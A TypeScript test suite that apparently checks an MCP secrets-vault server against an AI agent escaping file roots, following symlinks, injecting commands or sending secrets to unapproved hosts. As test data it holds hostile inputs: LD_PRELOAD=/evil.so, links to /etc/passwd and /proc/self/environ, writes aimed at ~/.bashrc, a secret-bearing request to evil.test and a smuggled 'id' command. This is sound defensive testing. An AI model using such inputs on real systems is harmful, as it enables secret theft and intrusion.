// What an AI agent may do with files, requests and other people's servers, on the compiled program; attacks by the
// numbers of mcp-weak-points where they have one.
import { afterAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { existsSync, linkSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { hitsIn } from './mcp-canary.ts'
import { McpClient } from './mcp-client.ts'
import { CANARIES, Cell, cellsOfATest, plantedPlace } from './mcp-place.ts'
import type { CellWish } from './mcp-place.ts'
import { ourBinary } from './peer.ts'

setDefaultTimeout(60_000)

const place = plantedPlace()
afterAll(() => place.remove())
const FULL = { rules: { mode: 'full', reads: 0, exec: true }, key: 'passphrase' } as const
const open = cellsOfATest()

async function cellOf(wish: CellWish = FULL): Promise<Cell> {
  const cell = new Cell(place, wish)
  open.push(cell)
  await cell.client.initialize()
  return cell
}

const clean = (found: unknown) => expect(hitsIn(CANARIES, 'result', JSON.stringify(found))).toEqual([])

describe('dotenv files', () => {
  test('A4 B3: they are taken in from below the roots, denied keys stay, and nothing says what was equal', async () => {
    const { client, work } = await cellOf()
    writeFileSync(join(work, '.env'), `OPEN='${CANARIES.open}'\nMY_DENIED_KEY=x\nFRESH=new\nLD_PRELOAD=/evil.so\n`)
    const given = { project: 'app', files: ['.env'], overwrite: true }
    const { data } = await client.call('vault_import_env_files', given)
    expect(data).toMatchObject({ imported_keys: ['FRESH', 'OPEN'], skipped_keys: [], imported_count: 2 })
    expect(data['blocked_keys']).toEqual(['LD_PRELOAD', 'MY_DENIED_KEY'])
    const version = async (key: string): Promise<unknown> => {
      const { secrets } = (await client.call('vault_list_secrets', { project: 'app' })).data as {
        secrets: { key: string; version: number }[]
      }
      return secrets.find((one) => one.key === key)?.version
    }
    // The value was the same already, and it is a new version all the same.
    expect(await version('OPEN')).toBe(3)
    clean(data)
    const again = await client.call('vault_sync_env', { project: 'app', direction: 'push', path: '.env' })
    expect(again.data['skipped_keys']).toEqual(['FRESH', 'OPEN'])
    // A denied name is told the same whether there is such a secret or not.
    writeFileSync(join(work, '.env'), 'MY_DENIED_KEY=x\nNO_DENIED_SUCH=y\n')
    const preview = await client.call('vault_preview_env_import', { project: 'app' })
    expect(preview.data['keys']).toMatchObject([{ action: 'create' }, { action: 'create' }])
  })

  test('A3 A4: nothing outside of the roots is read, and no link is followed', async () => {
    const { client, work } = await cellOf()
    symlinkSync('/proc/self', join(work, 'proc'))
    symlinkSync('/etc/passwd', join(work, '.env.passwd'))
    for (const files of [
      ['../vault/.env'],
      ['/proc/self/environ'],
      ['proc/.env'],
      ['.env.passwd'],
      ['-'],
      ['.env.link'],
    ]) {
      for (const name of ['vault_import_env_files', 'vault_preview_env_import']) {
        expect([files, (await client.call(name, { files, project: 'app' })).isError]).toEqual([files, true])
      }
    }
    for (const directory of ['/', '..', 'proc', '../vault']) {
      expect([directory, (await client.call('vault_list_env_files', { directory })).data['kind']]).toEqual([
        directory,
        'denied',
      ])
    }
  })
})

describe('environment groups', () => {
  test('A5: a denied key is neither promoted nor pinned, and a group with something hidden is nobody’s', async () => {
    const { client } = await cellOf()
    const promote = { group: 'shop', from_env: 'one', to_env: 'two', keys: ['MY_DENIED_KEY', 'NOT_THERE'] }
    const { data } = await client.call('vault_env_promote', promote)
    expect(data['promoted']).toEqual([])
    expect(data['skipped']).toMatchObject([{ reason: 'not found in one' }, { reason: 'not found in one' }])
    for (const key of ['MY_DENIED_KEY', 'NOT_THERE']) {
      const { data: pinned } = await client.call('vault_env_pin', { group: 'shop', env: 'two', key })
      expect(pinned['kind']).toBe('not_found')
    }
    place.must(['env', 'group', 'create', 'secretive', '--env', 'a=hidden'])
    const hidden = await cellOf()
    for (const [name, given] of Object.entries({
      vault_env_group_delete: { name: 'secretive' },
      vault_env_group_add: { group: 'secretive', env_name: 'b', project: 'app' },
      vault_env_diff: { group: 'secretive' },
    })) {
      expect([name, (await hidden.client.call(name, given)).data['kind']]).toEqual([name, 'not_found'])
    }
    place.must(['env', 'group', 'delete', 'secretive', '-y'])
  })

  test('B1: comparing environments is reading', async () => {
    const { client } = await cellOf()
    expect((await client.call('vault_env_diff', { group: 'shop', values: true })).data['kind']).toBe('denied')
    const { data } = await client.call('vault_env_diff', { group: 'shop' })
    expect(JSON.stringify(data)).not.toContain('DENIED')
  })
})

describe('vault_inject_env', () => {
  const policy = (folder: string) => `[allow names]
effect = list
[allow files]
effect = write-file
project = app
key = OPEN
file = ${folder}/cell-*/wor[k]/.env
file = ${folder}/cell-*/wor[k]/.netrc
`
  const own = policy(place.folder)

  test('writes what the policy names, by its grammar, for nobody else to read', async () => {
    const { client, work } = await cellOf({ rules: undefined, own, key: 'passphrase' })
    writeFileSync(join(work, '.env'), '# mine\nA=1\n', { mode: 0o644 })
    const given = { project: 'app', key: 'OPEN', file_path: join(work, '.env'), purpose: 'the tests' }
    const { isError, data } = await client.call('vault_inject_env', given)
    expect([isError, data]).toMatchObject([false, { format: 'dotenv', created: false }])
    clean(data)
    const written = readFileSync(join(work, '.env'), 'utf8')
    expect([written.startsWith('# mine\nA=1\n'), written.includes(CANARIES.open)]).toEqual([true, true])
    expect(statSync(join(work, '.env')).mode & 0o777).toBe(0o600)
  })

  test('D1 D2 D3 D6: and nothing else', async () => {
    const { client, work, folder } = await cellOf({ rules: undefined, own, key: 'passphrase' })
    writeFileSync(join(folder, 'target'), 'theirs')
    symlinkSync(join(folder, 'target'), join(work, '.netrc'))
    const inject = (file_path: string, more = {}) =>
      client.call('vault_inject_env', {
        project: 'app',
        key: 'OPEN',
        file_path,
        purpose: 'try',
        host: 'a.test',
        user: 'me',
        ...more,
      })
    for (const path of [
      join(work, '.netrc'),
      join(work, '.env.other'),
      join(work, '..', 'vault', 'vault.db'),
      join(work, '..', 'vault', '.env'),
      join(process.env['HOME'] ?? '/', '.bashrc'),
      '/proc/self/.env',
      '.env',
    ]) {
      expect([path, (await inject(path)).isError]).toEqual([path, true])
    }
    expect(readFileSync(join(folder, 'target'), 'utf8')).toBe('theirs')
    linkSync(join(folder, 'target'), join(work, '.env'))
    expect((await inject(join(work, '.env'))).isError).toBe(true)
    expect(readFileSync(join(folder, 'target'), 'utf8')).toBe('theirs')
    // A key that the rule does not name is not there.
    expect((await inject(join(work, '.env'), { key: 'LINES' })).isError).toBe(true)
  })

  test('a file that git would commit is refused', async () => {
    const { client, work } = await cellOf({ rules: undefined, own, key: 'passphrase' })
    Bun.spawnSync(['git', 'init', '-q'], { cwd: work })
    const given = { project: 'app', key: 'OPEN', file_path: join(work, '.env'), purpose: 'try' }
    expect((await client.call('vault_inject_env', given)).data['reason']).toBe('file_not_ignored')
    expect(existsSync(join(work, '.env'))).toBe(false)
    writeFileSync(join(work, '.gitignore'), '.env\n')
    expect((await client.call('vault_inject_env', given)).isError).toBe(false)
  })
})

describe('vault_http_request', () => {
  const ask = (cell: Cell, url: string, more = {}) =>
    cell.client.call('vault_http_request', { project: 'app', url, headers: ['A: {{OPEN}}'], purpose: 'try', ...more })

  test('G: it goes to hosts that the owner named, and never inside', async () => {
    const cell = await cellOf({
      ...FULL,
      words: ['--host', 'localhost:9', '--host', '*.example.com', '--refusals', '1000'],
    })
    expect((await ask(cell, 'https://evil.test/')).data).toMatchObject({ kind: 'denied', reason: 'host_not_allowed' })
    expect((await ask(cell, 'https://example.com.evil.test/')).data['reason']).toBe('host_not_allowed')
    expect((await ask(cell, 'https://localhost:9/')).data['reason']).toBe('host_not_public')
    expect((await ask(cell, 'http://localhost:9/')).data['kind']).toBe('usage')
    expect((await ask(cell, 'https://localhost:9/', { headers: ['A: {{MY_DENIED_KEY}}'] })).data['kind']).toBe(
      'not_found',
    )
    expect((await ask(cell, 'https://localhost:9/', { purpose: undefined })).data['kind']).toBe('usage')
  })

  test('and where the owner names one inside, nothing of the value is in what went wrong', async () => {
    const cell = await cellOf({ ...FULL, words: ['--host', '127.0.0.1:9', '--inside', '127.0.0.1:9'] })
    const { isError, text } = await ask(cell, 'https://127.0.0.1:9/?k={{OPEN}}')
    expect(isError).toBe(true)
    clean(text)
    clean(cell.audit())
    expect(cell.audit()).toContain('127.0.0.1:9')
  })
})

describe('recipes', () => {
  const recipes = (cell: Cell, text: string) =>
    writeFileSync(join(cell.folder, 'vault', 'mcp-recipes.yaml'), text, { mode: 0o600 })
  const run = (cell: Cell, script: string, secrets: string[]) =>
    cell.client.call('vault_exec', { project: 'app', argv: ['sh', '-c', script], secrets, output: 'full' })

  test('a secret comes as the owner says: input, private file, another variable', async () => {
    const cell = await cellOf()
    recipes(cell, 'OPEN:\n  as: stdin\napp/LINES:\n  as: file\n  name: KEY_FILE\n')
    const script = 'cat | wc -c; stat -c %a "$KEY_FILE"; wc -l < "$KEY_FILE"; env | grep -c "^OPEN=\\|^LINES=" || true'
    const { data } = await run(cell, script, ['OPEN', 'LINES'])
    expect(data['stdout']).toBe(`${CANARIES.open.length}\n600\n3\n0\n`)
    recipes(cell, 'OPEN: { as: env, name: RENAMED }\n')
    const renamed = await run(cell, 'printf %s "$RENAMED" | wc -c; printf %s "$OPEN" | wc -c', ['OPEN'])
    expect(renamed.data['stdout']).toBe(`${CANARIES.open.length}\n0\n`)
  })

  test('R11: askpass answers each question as it is meant, any number of times, and no other', async () => {
    const cell = await cellOf()
    recipes(cell, 'OPEN: { as: askpass, user: me }\n')
    const script = [
      '"$GIT_ASKPASS" "Username for https://a.test: "',
      '"$GIT_ASKPASS" "Password for https://me@a.test: " | tr -d "\\n" | wc -c',
      '"$SSH_ASKPASS" "Enter passphrase for key: " | tr -d "\\n" | wc -c',
      '"$SSH_ASKPASS" "Are you sure you want to continue connecting (yes/no)? " || echo refused',
      'env | grep -c OPEN= || true',
    ].join('\n')
    const { data } = await run(cell, script, ['OPEN'])
    const size = CANARIES.open.length
    expect(data['stdout']).toBe(`me\n${size}\n${size}\nrefused\n0\n`)
    clean(data)
  })

  test('git hands it to a server as the password, and to nobody as the name', async () => {
    const cell = await cellOf()
    recipes(cell, 'OPEN: { as: askpass }\n')
    const script = 'printf "protocol=https\\nhost=a.test\\n\\n" | git credential fill'
    const { data } = await run(cell, script, ['OPEN'])
    expect(data['stdout']).toContain('username=x-access-token\npassword=[REDACTED:OPEN]\n')
  })

  test('with a file that is not understood no program is started', async () => {
    const cell = await cellOf()
    for (const text of [
      'OPEN: { as: shell }',
      'OPEN: { name: "a b" }',
      'OPEN: { user: "x\'; id" }',
      'OPEN: { more: 1 }',
      '[]',
      'OPEN: { name: PATH }',
    ]) {
      recipes(cell, `${text}\n`)
      expect([text, (await run(cell, 'touch ran', ['OPEN'])).isError]).toEqual([text, true])
    }
    expect(existsSync(join(cell.work, 'ran'))).toBe(false)
  })
})

test('C8: what an earlier program was given does not come out of a later one', async () => {
  const { client } = await cellOf()
  const sh = (script: string, secrets?: string[]) =>
    client.call('vault_exec', { project: 'app', argv: ['sh', '-c', script], ...(secrets && { secrets }) })
  await sh('printf %s "$OPEN" | rev > kept', ['OPEN'])
  const { data } = await sh('cat kept; rev kept; rev kept | base64 -w0')
  clean(data)
  expect(Number(data['redactions'])).toBe(3)
})

test('D6: the roots that a client names can only narrow', async () => {
  const cell = new Cell(place, FULL)
  open.push(cell)
  const { client, work } = cell
  mkdirSync(join(work, 'inner'))
  writeFileSync(join(work, 'inner', '.env'), 'A=1\n')
  const asked = client.answering('roots/list', () => ({
    roots: [{ uri: `file://${work}/inner` }, { uri: 'file:///etc' }],
  }))
  await client.initialize(undefined, { roots: { listChanged: true } })
  await asked
  await client.request('ping')
  const list = async (directory: string) => (await client.call('vault_list_env_files', { directory })).data
  expect(await list('.')).toMatchObject({ files: [{ path: '.env' }] })
  expect(await list(work)).toMatchObject({ kind: 'denied' })
  expect(await list('/etc')).toMatchObject({ kind: 'denied' })
})

describe('mcp wrap', () => {
  const echo = `process.stdin.on('data', (d) => process.stdout.write(JSON.stringify({jsonrpc:'2.0',id:JSON.parse(d).id,result:{token:process.env.TOKEN,direct:process.env.DIRECT,pass:process.env.TVAULT_PASSPHRASE??''}})+'\\n'))`
  const start = (words: readonly string[], env: Record<string, string> = {}) =>
    new McpClient([...ourBinary(), 'mcp', 'wrap', ...words, '--', process.execPath, '-e', echo], {
      cwd: place.folder,
      env: { ...place.environment, ...env },
    })

  test('another server gets what is referred to, and its answers have the values taken out', async () => {
    const client = start(['--set', 'TOKEN=tvault://app/OPEN'], { DIRECT: 'x${tvault://app/LINES}y' })
    const { result } = (await client.request('initialize')) as { result: Record<string, string> }
    expect(result).toEqual({ token: '[REDACTED:TOKEN]', direct: '[REDACTED:DIRECT]', pass: '' })
    await client.end()
    clean(client.err)
  })

  test('as it is, when that is wished', async () => {
    const client = start(['--raw', '--set', 'TOKEN=tvault://app/OPEN'])
    const { result } = (await client.request('initialize')) as { result: Record<string, string> }
    expect(result['token']).toBe(CANARIES.open)
    await client.end()
  })

  test('nothing is started without what it refers to, and no value is taken from the command line', () => {
    const run = (...words: string[]) => place.run(['mcp', 'wrap', ...words, '--', 'touch', join(place.folder, 'ran')])
    expect(run('--set', 'TOKEN=tvault://app/NOPE').code).toBe(4)
    expect(run('--set', 'TOKEN=plain').code).toBe(2)
    expect(run().code).toBe(2)
    expect(existsSync(join(place.folder, 'ran'))).toBe(false)
  })
})
